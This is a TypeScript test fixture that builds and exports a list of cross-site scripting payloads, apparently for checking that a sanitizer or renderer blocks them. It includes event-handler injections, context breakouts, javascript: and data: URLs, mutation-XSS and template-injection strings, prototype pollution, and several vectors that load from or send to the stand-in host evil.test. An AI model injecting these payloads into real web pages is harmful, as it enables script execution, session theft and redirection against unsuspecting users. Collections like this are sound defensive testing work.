/** A call that betrays itself when it runs: a dialog, and a property that the test watches. */
const call = "pwned=alert(1)";

const events = [
  "onload",
  "onerror",
  "onmouseover",
  "onfocus",
  "ontoggle",
  "onbegin",
  "onanimationstart",
  "onpointerenter",
];
const tags = [
  "img src=x",
  "svg",
  "body",
  "details open",
  "video src=x",
  "input autofocus",
  "iframe",
  "marquee",
  "audio src=x",
];

const handlers = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${call}>`));

const breakouts = [
  "'",
  '"',
  "`",
  "'>",
  '">',
  "`>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
];
const closed = breakouts.map((before) => `${before}<script>${call}</script>`);

const links = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  " javascript:",
  "data:text/html,",
  "vbscript:",
  "&#106;avascript:",
].flatMap((scheme) => [`<a href="${scheme}${call}">x</a>`, `[x](${scheme}${call})`, `${scheme}${call}`]);

const odd = [
  `<script>${call}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<base href="//evil.test/">`,
  `<meta http-equiv=refresh content="0;url=//evil.test">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import '//evil.test/x.css';</style>`,
  `<style>*{background:url(//evil.test/x)}</style>`,
  `<form action=//evil.test><button>x</button></form>`,
  `<img src=//evil.test/pixel.gif>`,
  `<input type=image src=//evil.test/x formaction=javascript:${call}>`,
  `<template><script>${call}</script></template>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\u003cscript\u003e${call}\u003c/script\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `＜script＞${call}＜/script＞`,
  `<\u200bscript>${call}</script>`,
  `\u202e<script>${call}</script>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `{% ${call} %}`,
  `<!--<img src="--><img src=x onerror=${call}>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<a href="x" style="animation-name:x" onanimationend=${call}>x</a>`,
  `<div style="background:url(javascript:${call})">`,
  `<div style="width:expression(${call})">`,
  `<p id=pwned name=pwned>clobber</p>`,
  `<img name=getElementById><form id=body>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<table background=javascript:${call}>`,
  `<isindex type=image src=1 onerror=${call}>`,
  `__proto__[pwned]=1 {"__proto__":{"pwned":1}}`,
  `"};${call};//`,
  `';${call};//`,
  `</script><script>${call}//`,
];

/** Texts that try to run in whatever shows them. None of them needs a person to press anything. */
export const payloads: readonly string[] = [...handlers, ...closed, ...links, ...odd];
